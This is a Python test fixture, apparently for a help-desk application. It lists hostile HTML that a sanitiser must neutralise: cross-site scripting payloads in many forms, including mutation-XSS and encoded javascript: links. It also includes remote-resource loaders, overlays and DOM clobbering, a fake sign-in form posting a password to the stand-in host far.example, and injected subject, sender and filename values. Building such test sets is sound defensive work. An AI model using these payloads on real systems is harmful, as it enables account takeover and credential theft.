"""HTML that somebody might mail to a desk to take over whoever reads it."""

FAR = "https://far.example"

HOSTILE = (
    # scripts, in every place where one may stand
    "<script>alert(1)</script>",
    f"<script src='{FAR}/x.js'></script>",
    "<script type=module>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='cid:none' onerror='alert(1)' onload='alert(1)'>",
    "<img/src='x'/onerror=alert(1)//",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text y=20>click</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video autoplay oncanplay=alert(1)><source src='data:video/mp4;base64,AAAA' onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio><marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)></select>",
    "<div contenteditable autofocus onfocus=alert(1) tabindex=0>x</div>",
    "<iframe src='javascript:alert(1)'></iframe><iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<object data='{FAR}/x.swf'></object><embed src='{FAR}/x.swf'><applet code=x></applet>",
    f"<portal src='{FAR}/'></portal><frameset><frame src='javascript:alert(1)'></frameset>",
    "<template><script>alert(1)</script></template><template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<p hx-get='/desk/' hx-trigger='load' hx-on:load='alert(1)' data-hx-get='/account/sign-out/'>x</p>",
    # links
    "<a href='javascript:alert(1)'>a</a><a href='jAvA&#10;script:alert(1)'>b</a><a href='&#1;javascript:alert(1)'>c</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a><a href='vbscript:x'>b</a><a href='blob:x'>c</a>",
    f"<a href='{FAR}/' target='_top' ping='{FAR}/ping' download>a</a><area href='javascript:alert(1)'>",
    f"<map name=m><area shape=default href='{FAR}/'></map><img usemap='#m' src='cid:x'>",
    "<a href='/account/sign-out/'>sign out</a><a href='//far.example/x'>relative</a>",
    # what asks other servers for something by itself
    f"<img src='{FAR}/a.png' srcset='{FAR}/b.png 2x' lowsrc='{FAR}/c.png' dynsrc='{FAR}/d'><img src='//far.example/e.png'>",
    f"<picture><source srcset='{FAR}/f.png'><img src='{FAR}/g.png'></picture><input type=image src='{FAR}/h.png'>",
    f"<link rel=stylesheet href='{FAR}/x.css'><link rel=prefetch href='{FAR}/p'><link rel=preconnect href='{FAR}'>",
    f"<style>@import '{FAR}/x.css'; @font-face {{ font-family: x; src: url({FAR}/f.woff) }} body {{ display: none }}</style>",
    f"<table background='{FAR}/t.png'><td background='{FAR}/u.png' style='background: url({FAR}/v.png)'>x</td></table>",
    f"<body background='{FAR}/w.png' onload=alert(1)><bgsound src='{FAR}/x'><video poster='{FAR}/y.png'></video>",
    f"<meta http-equiv=refresh content='0;url={FAR}/away'><base href='{FAR}/' target=_blank>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\"><meta name=referrer content=unsafe-url>",
    # what poses as the desk, or lies over it
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>Please sign in again</div>",
    "<p style='margin-top:-9999px;font-size:500px;position:absolute;top:0'>x</p><font size=7 color=red>x</font><center>x</center>",
    f"<form action='{FAR}/steal' method=post><input name=password type=password><button>Sign in</button></form>",
    "<button form=composer formaction='https://far.example/'>Send reply</button><input form=composer name=body value=x>",
    "<label for=dialog>x</label><dialog open id=dialog2>Sign in again</dialog><menu popover id=p>x</menu>",
    "<p class='btn primary messages' id='composer'>x</p><p id=thread>y</p><p id=dialog>z</p>",
    "<a id=htmx name=htmx href='https://far.example/'>x</a><img name=querySelector><form name=body id=cookie></form>",
    "<p role=alert aria-live=assertive aria-label='You are signed out' lang=de dir=rtl hidden slot=x is=x part=y>x</p>",
    # what tries to leave the box
    "</div></div></article></section></main></body></html><h1>Out</h1>",
    "<!--", "<plaintext>", "<textarea>", "<title>", "<xmp>", "<noembed>", "<select><option>", "<![CDATA[", "<table><tr><td>",
    "<b><i><u><s><p><div><ul><li><blockquote><table><tbody>" * 12,
    "<p>" + "A" * 3000 + "</p>",
    "\x00<scr\x00ipt>alert(1)</script>\x0b<img\x0csrc=x\x0conerror=alert(1)>",
)  # fmt: skip

SUBJECT = '"><img src=x onerror=alert(1)><script>alert(1)</script>{{ 7|add:7 }}'
SENDER = "<script>alert(1)</script><b onmouseover=alert(1)>Eve</b>"
FILE_NAME = '"><svg onload=alert(1)>.png'
